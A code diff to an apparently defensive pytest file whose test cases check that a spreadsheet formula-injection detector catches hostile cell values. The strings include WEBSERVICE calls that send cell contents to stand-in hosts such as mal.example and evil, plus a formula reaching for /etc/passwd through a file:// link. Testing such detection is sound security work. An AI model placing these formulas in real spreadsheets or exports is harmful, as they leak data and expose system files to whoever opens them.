@@ -23,6 +23,7 @@ FILES = Path(__file__).parents[1] / "intake" / "files"
         "@SUM (A1)", "-2%-A1", "+ A1*2", "-2%-'file:///etc/passwd'#$passwd.A1", "-5 km&A1", "- 5 km&'a b'!A1",
         '- IF(TRUE;WEBSERVICE("https://mal.example/"&A1))', "- SUM(A:A)", '- hyperlink("x")', "- (2)*3",
         "- A1", "- $A$1:B2", "- 2020-2026", "\uff0b A1\uff0a2", "- ((A1))",
+        '+ webservice ("http://evil")', '- hyperlink ("http://e")', '- 1 + webservice ("http://e")',
     ],
 )  # fmt: skip
 def test_a_formula_is_noticed(text: str) -> None:
